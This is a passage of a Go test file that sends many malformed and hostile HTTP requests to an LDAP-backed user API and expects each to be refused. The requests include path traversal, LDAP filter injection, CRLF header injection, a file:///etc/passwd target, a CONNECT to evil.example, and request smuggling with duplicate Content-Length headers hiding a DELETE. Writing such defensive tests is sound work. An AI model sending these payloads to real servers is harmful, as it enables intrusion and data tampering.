		{"/../users/alice", 404},
		{"/errors/..%2fusers%2falice", 404}, {"/users%2falice", 404}, {"%2fusers/alice", 400},
		{"/%75sers/alice", 404}, {"/USERS/alice", 404},
		{"/users/..", 404}, {"/users/.", 404}, {"/users/%2e%2e", 404}, {"/users/%2e", 404},
		{"/users/..%2falice", 404}, {"/users/alice%2f", 404},
		{"/users/alice%2f..%2fbob", 404}, {"/users/alice%252f", 404}, {"/users/%2561lice", 404},
		{"/users/alice%00", 404}, {"/users/alice%00.json", 404},
		{"/users/alice%0d%0aX:%20y", 404}, {"/users/alice;x=y", 404}, {"/users/alice;/", 404},
		{"/users;x/alice", 404}, {"/users/alice.json", 404},
		{"/users/alice%20x", 404}, {"/users/alice%09", 200}, {"/users/%20alice%20", 200}, {"/users/alice#x", 404},
		{"/users/alice%23x", 404}, {"/users/alice%3fx", 404},
		{`\users\alice`, 400}, {`/users\alice`, 404}, {`/users/..\alice`, 404}, {"/users/%5c61lice", 404},
		{`/users/\61lice`, 404},
		{"/users/*", 404}, {"/users/al%2a", 404}, {"/users/*)(cn=*", 404}, {"/users/cn=alice", 404},
		{"/users/" + userDN("alice"), 404},
		{"/users/alice,ou=people", 404}, {"/users/alice%2bsn=x", 404}, {"/users/#616c696365", 404},
		{"/users/%23616c696365", 404},
		{"/users/%c0%ae%c0%ae", 404}, {"/users/%ff", 404}, {"/users/%ef%bc%8fetc", 404}, {"/users/%e2%80%8balice", 404},
		{"/users/%zz", 400}, {"/users/%", 400}, {"/users/%6", 400}, {"users/alice", 400}, {"alice", 400}, {"*", 404},
		{"", 400}, {" ", 400},
		{"?x", 400}, {"http:///users/alice", 200}, {"http:/users/alice", 200}, {"file:///etc/passwd", 404},
		{"ldap://x/users/alice", 200},
		{"http://a@b/users/alice", 200}, {"http://[::1/users/alice", 400}, {"/users/alice HTTP/1.1\r\nX: y", 200},
		{"/users/al ice", 400},
		{"/users/\x00", 400}, {"/users/\x7f", 400}, {"/users/alice\tx", 400}, {"/users/é", 404},
		{"/groups/devs/../../users/alice", 404}, {"/groups/devs/members/..", 404}, {"/groups/devs/members/users/..", 405},
		{"/groups/devs/members/users%2falice", 404}, {"/" + strings.Repeat("../", 1000) + "users/alice", 404},
		{"/" + strings.Repeat("a/", 4000), 404}, {"/users/" + strings.Repeat("%2e", 4000), 404},
	} {
		t.Run(c.target[:min(60, len(c.target))], func(t *testing.T) {
			for who, credentials := range map[string]string{"nobody": "", "alice": alice, "admin": admin} {
				answer := a.send(address, "GET "+c.target+" HTTP/1.1\r\nHost: x\r\n"+credentials+"\r\n")
				var entry object
				_ = json.Unmarshal([]byte(answer.body), &entry)
				switch {
				case who == "nobody" && answer.status < 400, who == "admin" && answer.status != c.admin,
					answer.status < 400 && (answer.status != 200 || entry["cn"] != "alice"):
					t.Errorf("%s is answered with %d %.300s", who, answer.status, answer.body)
				case answer.status >= 400 && !refuses(answer):
					t.Errorf("%s gets no problem document: %d %v %.300s", who, answer.status, answer.header, answer.body)
				}
			}
			under := base.send(below, "GET /api/.."+c.target+" HTTP/1.1\r\nHost: x\r\n"+admin+"\r\n")
			if under.status < 400 || !refuses(under) {
				t.Errorf("below a base path it is answered with %d %.300s", under.status, under.body)
			}
		})
	}
}

// refuses reports whether an answer is a problem document, or net/http's own to what is no request.
func refuses(r reply) bool {
	var problem client.Problem
	if r.header.Get("X-Request-Id") == "" {
		return r.status >= 400 && strings.HasPrefix(r.header.Get("Content-Type"), "text/plain") && r.ends
	}
	return json.Unmarshal([]byte(r.body), &problem) == nil && problem.Status == r.status && problem.Code != "" &&
		r.header.Get("Content-Type") == "application/problem+json"
}

func TestWhatIsNoRequestIsRefused(t *testing.T) {
	a := newTarget(t)
	address := a.served(nil)
	admin := a.basic("admin", "admin")
	const login = "POST /login HTTP/1.1\r\nHost: x\r\n"
	const inner = "DELETE /users/bob HTTP/1.1\r\nHost: x\r\n"
	for _, c := range []struct {
		what, text string
		statuses   []int
	}{
		{"HTTP/0.9", "GET /users/alice\r\n\r\n", []int{400}},
		{"HTTP/1.0 without credentials", "GET /users/alice HTTP/1.0\r\n\r\n", []int{401}},
		{"HTTP/2 in clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", []int{400, 404, 405, 505}},
		{"HTTP/3 in name", "GET /users/alice HTTP/3.0\r\nHost: x\r\n" + admin + "\r\n", []int{400, 505}},
		{"no version", "GET /users/alice HTTP/x\r\nHost: x\r\n\r\n", []int{400}},
		{"a method in small letters", "get /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
		{"an unknown method", "BREW /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
		{"a method that is none", "GET\x00 /users/alice HTTP/1.1\r\nHost: x\r\n\r\n", []int{400}},
		{"TRACE", "TRACE /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
		{"CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{404}},
		{"CONNECT to a path", "CONNECT /users/alice HTTP/1.1\r\nHost: x\r\n" + admin + "\r\n", []int{405}},
		{"two lengths", login + "Content-Length: 2\r\nContent-Length: 9\r\n\r\n{}" + inner + admin + "\r\n", []int{400}},
		{"a negative length", login + "Content-Length: -1\r\n\r\n", []int{400}},
		{"a signed length", login + "Content-Length: +2\r\n\r\n{}", []int{400}},
		{"a length beyond bounds", login + "Content-Length: 99999999999999999999\r\n\r\n{}", []int{400}},
		{"an unknown transfer coding", login + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", []int{400, 501}},
		{"two transfer codings", login + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", []int{400, 501}},
		{"a space before a colon", login + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", []int{400}},
		{"a header without a name", "GET / HTTP/1.1\r\nHost: x\r\n: y\r\n\r\n", []int{400}},
		{"a header without a colon", "GET / HTTP/1.1\r\nHost: x\r\nAuthorization\r\n\r\n", []int{400}},
		{"an unescaped NUL", "GET / HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n", []int{400}},
		{"large headers", "GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("x", 64<<10) + "\r\n\r\n", []int{431}},
		{"many headers", "GET / HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X: y\r\n", 20_000) + "\r\n", []int{431}},
		{"a long path", "GET /" + strings.Repeat("x", 64<<10) + " HTTP/1.1\r\nHost: x\r\n\r\n", []int{431}},
		{"TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", []int{400}},
		{"an expectation", "GET /users/alice HTTP/1.1\r\nHost: x\r\nExpect: cookies\r\n\r\n", []int{417}},
	} {
		t.Run(c.what, func(t *testing.T) {
			answer := a.send(address, c.text)
			if !slices.Contains(c.statuses, answer.status) || !refuses(answer) && answer.status != 417 {
				t.Errorf("it is answered with %d %v %.300s, want one of %v", answer.status, answer.header, answer.body, c.statuses)
			}
		})
	}
	a.do("GET", "/users/bob", nil) // read by the check below
	if len(a.search(userDN("bob"), ldap.ScopeBaseObject)) == 0 {
		t.Error("bob was deleted by what stood in a body")
	}
}
